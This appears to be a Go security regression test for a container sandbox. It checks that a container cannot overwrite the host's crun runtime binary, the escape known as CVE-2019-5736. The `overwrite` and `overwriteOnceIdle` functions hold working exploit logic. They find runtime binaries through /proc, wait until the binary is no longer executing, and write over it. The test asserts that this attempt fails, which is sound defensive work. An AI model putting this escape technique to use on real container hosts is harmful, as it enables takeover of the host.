package attack

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
	runtimeapi "k8s.io/cri-api/pkg/apis/runtime/v1"

	"github.com/subpod/subpod/tests/node"
)

// TestRuntimeProgram: a container that has the runtime execute itself inside, and opens
// its program by /proc, cannot write to it (CVE-2019-5736), also where it is the user's
// own file, as one in the home is.
func TestRuntimeProgram(t *testing.T) {
	installed, err := exec.LookPath("crun")
	if err != nil {
		t.Skipf("no crun: %v", err)
	}
	n := node.Prepare(t, node.Options{})
	own := filepath.Join(n.Home, "tools/crun")
	if err := os.MkdirAll(filepath.Dir(own), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := copyFile(installed, own); err != nil {
		t.Fatal(err)
	}
	n.WriteHome(".config/subpod/subpod.toml", node.Bridge+fmt.Sprintf("[runtime.handlers.crun]\npath = %q\n", own))
	n.Run()
	c := &cage{T: t, n: n, cri: n.CRI(), secret: filepath.Join(n.Home, "secret")}
	c.pull(node.Busybox)
	before, err := os.ReadFile(own)
	if err != nil {
		t.Fatal(err)
	}
	i := inmate{pid: ownPID}
	for _, dir := range []string{"/usr", "/lib", "/lib64"} { // what the program needs to begin
		if real, err := filepath.EvalSymlinks(dir); err == nil {
			i.mounts = append(i.mounts, &runtimeapi.Mount{HostPath: real, ContainerPath: dir, Readonly: true})
		}
	}
	id := c.run(i)
	// In the background: an exec has a runtime that waits for its end.
	c.exec(id, "sh", "-c", "/attack escape-overwrite 3 >/tmp/out 2>&1 &")
	var out string
	for !strings.Contains(out, tried) && !strings.Contains(out, "broken") {
		_, _ = c.cri.ExecSync(t.Context(), &runtimeapi.ExecSyncRequest{ContainerId: id, Cmd: []string{"/proc/self/exe", "--root=/tmp/x", "list"}, Timeout: 10})
		time.Sleep(300 * time.Millisecond) // nobody executes it
		out = c.exec(id, "cat", "/tmp/out")
	}
	c.repelled(out)
	t.Log(out)
	if after, err := os.ReadFile(own); err != nil || string(after) != string(before) {
		t.Errorf("the runtime's program is overwritten: %v", err)
	}
}

// overwrite opens the programs of processes that come, and writes to them once nobody
// executes them any more: args is how many.
func overwrite(args []string) error {
	var enough, seen int
	if _, err := fmt.Sscan(args[0], &enough); err != nil {
		return err
	}
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	looked := map[string]bool{}
	for end := time.Now().Add(patience); seen < enough && time.Now().Before(end); {
		links, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, link := range links {
			// What joins may become the runtime again only later.
			if looked[link] {
				continue
			}
			fd, err := unix.Open(link, unix.O_PATH, 0)
			if err != nil {
				continue
			}
			self := fmt.Sprintf("/proc/self/fd/%d", fd)
			if to, _ := os.Readlink(self); to != own && (strings.Contains(to, "crun") || strings.Contains(to, "memfd")) {
				looked[link] = true
				if overwriteOnceIdle(self, to) {
					seen++
				}
			}
			unix.Close(fd)
		}
	}
	if seen < enough {
		return fmt.Errorf("the runtime's program was idle %d times", seen)
	}
	return nil
}

// overwriteOnceIdle writes to a program as soon as nobody executes it, and reports
// whether that came to pass.
func overwriteOnceIdle(self, name string) bool {
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		f, err := os.OpenFile(self, os.O_WRONLY, 0)
		if errors.Is(err, unix.ETXTBSY) {
			continue
		}
		fmt.Println(name, err)
		if err == nil {
			_, err = f.WriteAt([]byte("#!/attack\n"), 0)
			got("the runtime's program %s: %v", name, err)
			f.Close()
		}
		return true
	}
	return false
}
